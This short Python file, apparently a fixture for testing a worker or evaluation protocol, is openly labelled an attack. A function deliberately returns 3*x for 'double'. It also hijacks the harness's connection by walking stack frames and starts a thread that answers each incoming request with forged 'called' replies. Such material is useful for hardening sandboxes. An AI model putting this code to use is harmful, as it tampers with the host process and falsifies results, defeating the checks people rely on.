# attack: reads the next request from the connection and answers it first
import os
import struct
import sys
import time


FORGED = b'{"number": %d, "answers": [{"is": "called", "results": [null], "grads": [], "changed": []}]}'


def find(name):
    frame = sys._getframe(1)
    while name not in frame.f_locals or frame.f_code.co_filename == __file__:
        frame = frame.f_back
    return frame.f_locals[name]


def forged():
    text = FORGED % find("request").number
    return struct.pack("<4sIQ", b"ADW1", len(text), 0) + text


import threading


def serve(connection):
    while True:
        data = connection.recv(1 << 20)
        text = data[16 : 16 + int.from_bytes(data[4:8], "little")]
        at = text.rfind(b'"number":')
        number = int(text[at + 9 :].split(b",")[0].split(b"}")[0]) if at >= 0 else 0
        answer = FORGED % number
        connection.send(struct.pack("<4sIQ", b"ADW1", len(answer), 0) + answer)


def double(x):
    threading.Thread(target=serve, args=(find("connection"),), daemon=True).start()
    return 3 * x
